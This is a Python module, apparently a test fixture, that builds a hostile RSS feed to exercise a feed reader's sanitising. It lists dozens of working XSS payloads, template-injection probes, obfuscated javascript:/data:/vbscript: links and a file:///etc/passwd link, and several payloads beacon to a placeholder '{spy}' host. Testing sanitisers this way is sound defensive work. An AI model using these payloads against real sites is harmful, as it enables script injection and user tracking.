"""A feed by somebody who means harm: every way into a page that we know, in every field that a page shows."""

from __future__ import annotations

from html import escape

# {spy} is a server that notes every request; alert() is what a browser would show when code runs.
TEXTS = (
    "<script>alert(1)</script>",
    "<script src=//{spy}/s.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=//{spy}/quote.gif onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//{spy}/embed.swf>",
    "<style>@import url(//{spy}/style.css);</style>",
    "<link rel=stylesheet href=//{spy}/link.css>",
    "<p style='background:url(//{spy}/background.gif)'>chữ</p>",
    "<img src=//{spy}/pixel.gif width=1 height=1>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<video poster=//{spy}/poster.gif></video>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>Bấm</button></form>",
    "<meta http-equiv=refresh content='0;url=//{spy}/refresh'>",
    "<base href=//{spy}/>",
    "</title></head></h3></a><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=javascript:alert(1)>bấm vào đây</a>",
    "<a href='java&#x0A;script:alert(1)'>bấm</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ 7 * 7 }} {% for x in y %} ${{7*7}} <%= 7*7 %>",
    "[bấm](javascript:alert(1)) ![x](//{spy}/markdown.gif) **đậm**",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&amp;#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://www.so.example.vn/%0Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://so.example.vn/1",
    "file:///etc/passwd",
    'https://so.example.vn/" onmouseover="alert(1)',
    "https://so.example.vn/'><script>alert(1)</script>",
    "https://user:pass@so.example.vn/",
)


def payloads(spy: str) -> list[str]:
    """The texts, calling home to a server."""
    return [text.replace("{spy}", spy) for text in TEXTS]


def feed(spy: str) -> str:
    """An RSS feed of them all: each text as title and description, each link as link and guid."""
    items = [
        f"<item><title>T{number} {escape(text)}</title><link>https://so.example.vn/t{number}</link>"
        f"<description>{escape(text)}</description><author>{escape(text)}</author>"
        f"<pubDate>Sat, 21 Nov 2026 {number // 60:02d}:{number % 60:02d}:00 +0700</pubDate></item>"
        for number, text in enumerate(payloads(spy))
    ]
    items += [
        f"<item><title>L{number}</title><link>{escape(link, quote=False)}</link><guid>{escape(link)}</guid>"
        f"<pubDate>Fri, 20 Nov 2026 08:{number:02d}:00 +0700</pubDate></item>"
        for number, link in enumerate(LINKS)
    ]
    title = escape("<script>alert(1)</script>Cổng")
    return f'<rss version="2.0"><channel><title>{title}</title>{"".join(items)}</channel></rss>'
